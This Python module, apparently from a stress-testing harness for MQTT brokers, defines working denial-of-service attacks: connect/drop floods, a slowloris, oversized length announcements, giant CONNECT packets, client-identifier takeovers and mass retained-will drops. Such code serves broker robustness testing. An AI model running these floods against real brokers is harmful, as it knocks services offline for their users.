"""Attacks on the door: connections, CONNECT, and what comes before one is somebody."""

from __future__ import annotations

import time
from typing import ClassVar

from .. import packets
from .attack import Attack

TEXT_MAX = 65_535
HUGE = 268_435_455  # the largest remaining length there is (section 2.2.3)


class Connections(Attack):
    """Connections that go as soon as they have come."""

    name: ClassVar = "connections"
    about: ClassVar = "connections opened and dropped as fast as it goes, half of them with half a CONNECT"
    unit: ClassVar = "connections"

    def strike(self) -> int:
        half = packets.connect("abuse")[:9]
        for number in range(10):
            if (member := self.crowd.dial()) is not None and number % 2:
                self.crowd.push(member, half)
        self.crowd.scatter()
        return 10


class SlowLoris(Attack):
    """Connections that say CONNECT one byte at a time."""

    name: ClassVar = "slow-loris"
    about: ClassVar = "500 connections: half say nothing, half one byte of CONNECT a second"
    unit: ClassVar = "bytes"

    def prepare(self) -> None:
        self._connect = packets.connect("abuse-" + "x" * 60)
        self._at = 0

    def strike(self) -> int:
        while len(self.crowd.members) < self.scaled(500):
            if self.crowd.dial() is None:
                time.sleep(0.01)
                return 0
        talking = self.crowd.members[::2]
        octet = self._connect[self._at % len(self._connect) :][:1]
        self._at += 1
        sent = sum(self.crowd.push(member, octet) for member in talking)
        for member in list(self.crowd.members):
            self.crowd.drink(member)
        time.sleep(1.0)
        return sent


class Lengths(Attack):
    """Packets that announce more than will ever come."""

    name: ClassVar = "lengths"
    about: ClassVar = "100 connections announce CONNECT, PUBLISH and SUBSCRIBE of up to 256 MiB, and send what they may"
    unit: ClassVar = "MiB"
    CHUNK: ClassVar = b"\0" * 65_536

    def strike(self) -> int:
        sent = 0
        while len(self.crowd.members) < self.scaled(100):
            number = len(self.crowd.members)
            if number % 4 == 0:
                member = self.crowd.dial()
                start = b"\x10\xff\xff\xff\x7f"  # CONNECT of 256 MiB
            else:
                member = self.crowd.join(packets.connect(f"abuse-{number}"))
                length = (HUGE, 16 * 1024 * 1024 - 8, 500_000)[number % 3]
                start = packets.head((0x30, 0x30, 0x82)[number % 3], length)
            if member is None:
                time.sleep(0.01)
                return 0
            self.crowd.push(member, start)
        for member in list(self.crowd.members):
            sent += self.crowd.push(member, self.CHUNK)
            if member.fileno() >= 0:
                self.crowd.drink(member)
        if not sent:
            time.sleep(0.005)
        self._left = getattr(self, "_left", 0) + sent
        done, self._left = divmod(self._left, 1 << 20)
        return done


class GiantConnects(Attack):
    """The largest CONNECT there is: five texts of 64 KiB and as many user properties as fit."""

    name: ClassVar = "giant-connects"
    about: ClassVar = "CONNECT of 500 KiB in version 5: identifier, will, name, password, 2,000 user properties"
    unit: ClassVar = "CONNECTs"

    def prepare(self) -> None:
        text = packets.text("x" * TEXT_MAX)
        pair = b"\x26" + packets.text("k" * 40) + packets.text("v" * 40)
        properties = pair * 2_000
        length = packets.packet(0, properties)[1 : -len(properties)]  # a length in septets, as in the fixed header
        head = packets.text("MQTT") + b"\x05\xce\x00\x3c" + length + properties
        # An identifier we do not take, a will without properties, a name, a password.
        self._connect = packets.packet(0x10, head + text + b"\0" + text + text + text + text)

    def strike(self) -> int:
        member = self.crowd.dial()
        if member is not None:
            self.crowd.push_all(member, self._connect)
        self.crowd.scatter()
        return 1


class TakeOvers(Attack):
    """The same client identifier, again and again."""

    name: ClassVar = "take-overs"
    about: ClassVar = "one client identifier connects as fast as it goes, each time taking itself over"
    unit: ClassVar = "CONNECTs"

    def strike(self) -> int:
        for _ in range(10):
            self.crowd.join(packets.connect("abuse-one"))
        for member in self.crowd.members[:-1]:
            self.crowd.drink(member)
        for member in self.crowd.members[:-2]:
            self.crowd.part(member)
        return 10


class Wills(Attack):
    """Clients with wills that all vanish at once."""

    name: ClassVar = "wills"
    about: ClassVar = "1,000 clients with retained wills of 1 KiB dropped at once, then they come again"
    unit: ClassVar = "wills"

    def strike(self) -> int:
        while len(self.crowd.members) < self.scaled(1_000):
            number = len(self.crowd.members)
            if self.crowd.join(packets.connect(f"abuse-{number}", (f"abuse/wills/{number}", b"w" * 1_024))) is None:
                time.sleep(0.01)
                return 0
            if number % 20 == 19:
                return 0  # a blow is short
        count = len(self.crowd.members)
        self.crowd.scatter()
        return count


ATTACKS = (Connections, SlowLoris, Lengths, GiantConnects, TakeOvers, Wills)
